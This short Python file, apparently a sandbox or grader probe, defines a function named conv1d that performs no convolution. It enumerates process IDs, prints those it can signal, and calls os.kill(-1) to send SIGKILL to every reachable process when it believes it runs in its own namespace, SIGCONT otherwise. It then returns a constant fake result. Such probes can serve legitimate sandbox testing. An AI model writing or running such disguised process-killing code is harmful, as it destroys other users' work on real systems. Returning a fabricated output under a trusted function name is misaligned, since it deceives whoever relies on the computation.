"""Signals every process that it may: kill(-1), all process groups, all numbers."""

ATTEMPTS = "process: kill everything"

import os
import signal as signals

import numpy as np


def conv1d(signal, kernel, stride=1, pad=0):
    # SIGKILL only where this surely is a process namespace of its own; else a signal that harms nobody.
    alone = os.getppid() <= 1 and os.getpid() <= 20
    deadly = signals.SIGKILL if alone else signals.SIGCONT
    reached = []
    for pid in range(1, 70_000):
        try:
            os.kill(pid, 0)
            reached.append(pid)
        except (ProcessLookupError, PermissionError):
            pass
    print("could signal", [pid for pid in reached if pid != os.getpid()])
    try:
        os.kill(-1, deadly)
    except OSError as error:
        print(error)
    return np.full(1, 123.0)
